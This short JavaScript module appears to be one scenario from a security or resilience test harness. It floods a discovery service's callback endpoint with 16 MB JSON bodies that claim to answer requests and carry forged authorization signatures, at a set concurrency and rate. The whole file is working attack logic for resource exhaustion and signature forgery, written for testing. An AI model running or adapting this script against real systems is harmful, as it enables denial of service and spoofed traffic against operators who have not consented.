// Callbacks of 16 MB that claim to answer a request, without a valid signature.
import { forgedAuthorization } from '../attack-tools.mjs';
import { largeJson } from '../large-bodies.mjs';

export const behindProxy = true;

export async function attack({ people, discoveryUrl, post, keepDoing, underWay, actions }) {
  const message = { status: 'COMPLETED', catalogs: [] };
  const context = { version: '2.0.0', action: actions.onPull.name, messageId: 'none', transactionId: 'none' };
  const body = largeJson(16 * 1024 * 1024, { context, message });
  underWay();
  const forge = () => {
    const authorization = forgedAuthorization(people.catalog.id, { answering: `${'A'.repeat(86)}==` });
    return post(`${discoveryUrl}${actions.onPull.path}`, { body, headers: { authorization } });
  };
  await keepDoing(forge, { concurrency: 4, perSecond: 20 });
}
